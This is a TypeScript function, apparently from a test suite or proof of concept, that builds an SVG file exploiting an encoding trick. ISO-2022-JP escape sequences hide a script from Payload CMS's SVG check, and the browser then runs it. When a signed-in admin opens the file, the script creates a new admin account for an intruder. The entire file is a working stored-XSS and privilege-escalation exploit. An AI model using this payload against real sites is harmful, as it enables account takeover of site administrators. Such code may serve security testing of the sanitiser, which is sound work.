/**
 * An SVG that Payload's SVG check reads as a comment, but that a browser decodes as ISO-2022-JP:
 * `ESC $ B` turns `<!--` into two kanji, `ESC ( B` returns to ASCII, and the script is live. Opened
 * by a signed-in admin, the script reads the admin's session and creates an admin account of its own.
 */
export function craftedSvg(intruderEmail: string): Buffer {
  const ESC = '\x1b'
  const script =
    'window.__svgScriptRan=true;' +
    "fetch('/api/users/me').then(function(){return fetch('/api/users',{method:'POST',headers:{'Content-Type':'application/json'}," +
    `body:JSON.stringify({email:'${intruderEmail}',password:'mot-de-passe-intrus-1',role:'admin',name:'Intrus'})})})` +
    ".then(function(){console.log('svg-script-created-admin')})"
  const text =
    '<?xml version="1.0" encoding="ISO-2022-JP"?>\n' +
    `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80">${ESC}$B<!--${ESC}(B<script>${script}</script>--></svg>\n`
  return Buffer.from(text, 'latin1')
}
